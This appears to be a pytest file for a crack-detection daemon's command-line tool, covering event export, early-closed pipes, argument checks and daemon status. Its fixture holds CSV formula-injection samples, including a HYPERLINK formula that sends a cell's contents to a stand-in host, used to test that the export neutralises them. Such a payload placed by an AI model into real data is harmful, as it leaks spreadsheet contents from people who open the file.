"""The records and status commands as an operator runs them: a real SQLite journal, real subprocesses, real pipes.

Each bad argument or unwritable output is one line on stderr and a non-zero exit, never a traceback.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from edge.events.decision import EventRecord
from edge.events.journal import EventWrite, Journal
from tests.helpers import DEFAULT_BUNDLE, REPO, wait_until
from tests.helpers.cli import crackd


def one_line(result) -> str:
    assert "Traceback" not in result.stderr, result.stderr
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(lines) == 1, result.stderr
    return lines[0]


def add_events(state: Path, notes: list[str | None]) -> list[str]:
    """Events written through the journal's own write path, each labelled with a note (None: unlabelled)."""
    state.mkdir(parents=True, exist_ok=True)
    uuids = []
    with Journal(state / "crackd.db", on_corrupt="stop") as journal:
        for i, note in enumerate(notes):
            u = str(uuid.uuid4())
            t = time.time() - 100 + i
            record = EventRecord(
                "end",
                u,
                1,
                t,
                t + 1,
                t + 1,
                3,
                0.9,
                {"length_px": 40.0, "max_width_px": 3.0, "total_area_px": 90},
                10 * i,
                10 * i,
                10 * i + 3,
                "clear",
            )
            journal.record(events=[EventWrite(record, "1.0.0", "0" * 64, "cam1")])
            if note is not None:
                journal.set_label(u, "crack", note)
            uuids.append(u)
    return uuids


@pytest.fixture
def state(tmp_path) -> Path:
    d = tmp_path / "state"
    add_events(
        d,
        [
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "+1+2",
            "-2+3",
            "@SUM(A1)",
            "\tindented",
            "a plain note",
            None,
        ],
    )
    return d


# --------------------------------------------------------------------------- export


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(state, tmp_path):
    out = tmp_path / "events.csv"

    r = crackd("events", "export", "--state-dir", str(state), "--out", str(out))

    assert r.returncode == 0, r.stderr
    notes = [row["label_note"] for row in csv.DictReader(out.open(newline=""))]
    assert notes == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "'\tindented",
        "a plain note",
        "",
    ]
    assert not any(cell[:1] in "=+-@\t\r" for row in csv.reader(out.open(newline="")) for cell in row if cell)


def test_json_export_keeps_notes_verbatim(state):
    r = crackd("events", "export", "--state-dir", str(state), "--format", "json")

    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["events"][0]["label_note"].startswith("=HYPERLINK")


def test_export_refuses_to_overwrite_an_existing_file_unless_forced(state, tmp_path):
    out = tmp_path / "events.csv"
    out.write_text("an earlier export\n")

    refused = crackd("events", "export", "--state-dir", str(state), "--out", str(out))

    assert refused.returncode == 2 and "exists" in one_line(refused) and "--force" in one_line(refused)
    assert out.read_text() == "an earlier export\n"
    forced = crackd("events", "export", "--state-dir", str(state), "--out", str(out), "--force")
    assert forced.returncode == 0 and out.read_text().startswith("id,uuid")


@pytest.mark.parametrize(
    "where, expected",
    [
        ("missing-dir/events.csv", "No such file or directory"),
        (".", "Is a directory"),
        ("/dev/full", "No space left on device"),
    ],
)
def test_export_to_an_unwritable_place_is_one_line(state, tmp_path, where, expected):
    out = where if where.startswith("/") else str(tmp_path / where)

    r = crackd("events", "export", "--state-dir", str(state), "--out", out, "--force")

    assert r.returncode == 1
    line = one_line(r)
    assert line.startswith("crackd: ") and expected in line and Path(out).name in line


@pytest.mark.parametrize("command", [("events", "show"), ("events", "export"), ("events", "list")])
def test_a_reader_that_stops_early_is_no_error(state, command, tmp_path):
    """`crackd events ... | head -1`: the pipe closes early; crackd stops quietly like any Unix filter."""
    args = [*command, "--state-dir", str(state)]
    if command[1] == "show":
        add_events(state, ["x" * 200_000])  # larger than the pipe buffer
        args.append(Journal(state / "crackd.db").list_events(limit=1)[0].uuid)
    else:
        add_events(state, ["long note " * 200] * 200)
    shell = f"{sys.executable} -m edge.cli {' '.join(args)} | head -c 10 >/dev/null; echo ${{PIPESTATUS[0]}} >&2"
    r = subprocess.run(["bash", "-c", shell], cwd=REPO, capture_output=True, text=True, timeout=60)

    assert "Traceback" not in r.stderr and "BrokenPipe" not in r.stderr, r.stderr
    assert r.stderr.strip().splitlines()[-1] in ("0", "141")


# --------------------------------------------------------------------------- references and options


def test_show_with_an_id_too_large_for_sqlite_says_no_such_event(state):
    r = crackd("events", "show", "--state-dir", str(state), "9" * 40)

    assert r.returncode == 2 and "no event" in one_line(r)


@pytest.mark.parametrize("limit", ["0", "-1"])
def test_a_limit_must_be_at_least_one(state, limit):
    r = crackd("events", "list", "--state-dir", str(state), "--limit", limit)

    assert r.returncode == 2 and "--limit" in one_line(r) and "at least 1" in one_line(r)


def test_infer_refuses_a_threshold_outside_zero_to_one():
    image = DEFAULT_BUNDLE / "golden" / "00.png"
    for value in ("2", "-0.1", "nan"):
        r = crackd("infer", "--threshold", value, str(image))
        assert r.returncode == 2 and "--threshold" in one_line(r) and "from 0 to 1" in one_line(r)


def test_infer_refuses_crack_grouping_fractions_outside_zero_to_one():
    image = DEFAULT_BUNDLE / "golden" / "00.png"
    for flag in ("--merge-gap", "--min-crack-length"):
        r = crackd("infer", flag, "1.5", str(image))
        assert r.returncode == 2 and flag in one_line(r) and "from 0 to 1" in one_line(r)


def test_models_history_without_deployments_says_so(tmp_path):
    (tmp_path / "state").mkdir()
    config = tmp_path / "crackd.yaml"
    config.write_text(f"storage:\n  state_dir: {tmp_path / 'state'}\n")

    r = crackd("models", "history", "--config", str(config))

    assert r.returncode == 0 and "no deployments recorded" in r.stdout and str(tmp_path / "state") in r.stdout
    for n in ("0", "-1"):
        bad = crackd("models", "history", "--config", str(config), "-n", n)
        assert bad.returncode == 2 and "-n: expected at least 1" in one_line(bad)


# --------------------------------------------------------------------------- status and where the state is


def test_status_after_a_clean_stop_says_stopped_cleanly(tmp_path):
    state = tmp_path / "state"
    config = tmp_path / "crackd.yaml"
    config.write_text(
        "source:\n  type: synthetic\n  synthetic: {fps: 20, width: 64, height: 48}\nmodel:\n"
        f"  bundle: {DEFAULT_BUNDLE}\nstorage:\n  state_dir: {state}\n  snapshots: false\nmqtt:\n  enabled: false\n"
        "logging:\n  journald: false\n"
    )
    daemon = subprocess.Popen(
        [sys.executable, "-m", "edge.cli", "run", "--config", str(config)],
        cwd=REPO,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        wait_until(
            lambda: crackd("status", "--state-dir", str(state)).returncode == 0,
            60,
            "the daemon to run healthily",
            interval=0.3,
        )
        daemon.send_signal(signal.SIGTERM)
        assert daemon.wait(timeout=30) == 0
    finally:
        if daemon.poll() is None:
            daemon.kill()

    r = crackd("status", "--state-dir", str(state))
    as_json = crackd("status", "--state-dir", str(state), "--json")

    assert r.returncode == 3, r.stdout + r.stderr
    first = r.stdout.splitlines()[0]
    assert "stopped cleanly at 20" in first and "NOT" not in r.stdout and "DISCONNECTED" not in r.stdout
    assert as_json.returncode == 3 and json.loads(as_json.stdout)["state"] == "stopped"
    models = crackd("models", "status", "--state-dir", str(state))  # the release view says the same
    assert (
        "stopped cleanly at 20" in models.stdout
        and "NOT running" not in models.stdout
        and "UNHEALTHY" not in models.stdout
    )


def test_every_command_finds_the_same_state_directory(tmp_path):
    """No --state-dir: `status`, `events` and `models` all take ./crackd-state (the demo's) when it exists."""
    demo = tmp_path / "crackd-state"
    add_events(demo, ["one"])
    (demo / "models").mkdir()
    env = {k: v for k, v in os.environ.items() if k != "CRACKD_STATE_DIR"}

    events = crackd("events", "list", cwd=tmp_path, env=env)
    models = crackd("models", "list", cwd=tmp_path, env=env)
    history = crackd("models", "history", cwd=tmp_path, env=env)

    assert events.returncode == 0 and "1 event(s)" in events.stdout
    assert models.returncode == 0 and str(demo) in models.stdout, models.stdout + models.stderr
    assert history.returncode == 0 and str(demo) in history.stdout


def test_a_missing_state_directory_is_created_only_with_a_word_about_it(tmp_path):
    """check-config says the state directory does not exist yet; `crackd run` creates it and logs that it did
    (as root it would belong to root: the installer makes it for the service user)."""
    from tests.helpers.frames import write_frames

    state = tmp_path / "not-yet" / "state"
    write_frames(tmp_path / "frames", "..")
    config = tmp_path / "crackd.yaml"
    config.write_text(
        f"source:\n  type: folder\n  folder: {{path: {tmp_path / 'frames'}, fps: 0, loop: false}}\nmodel:\n"
        f"  bundle: {DEFAULT_BUNDLE}\nstorage:\n  state_dir: {state}\n  snapshots: false\nmqtt:\n  enabled: false\n"
        "logging:\n  journald: false\n"
    )

    check = crackd("check-config", str(config))
    assert check.returncode == 0 and f"state {state} (does not exist yet" in check.stdout
    assert not state.exists()

    run = crackd("run", "--config", str(config))
    assert run.returncode == 0, run.stderr[-2000:]
    assert state.is_dir() and f"created the state directory {state}" in run.stderr
